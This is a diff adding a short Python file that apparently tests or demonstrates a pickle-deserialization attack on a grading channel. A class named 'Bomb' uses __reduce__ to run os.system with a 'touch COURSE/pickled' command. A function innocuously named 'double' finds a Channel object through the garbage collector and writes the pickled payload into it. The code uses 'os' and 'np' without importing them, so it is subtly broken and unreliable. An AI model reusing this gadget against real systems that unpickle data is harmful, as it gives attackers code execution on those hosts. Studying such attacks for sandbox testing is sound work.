@@ -1,0 +1,14 @@
+"""Sends a pickle that would run a command where it is loaded."""
+import pickle
+
+
+class Bomb:
+    def __reduce__(self):
+        return os.system, ("touch COURSE/pickled",)
+
+
+def double(x):
+    import gc
+    channel = next(found for found in gc.get_objects() if type(found).__name__ == "Channel")
+    channel.write(pickle.dumps(Bomb()))
+    return np.array([Bomb()], dtype=object)
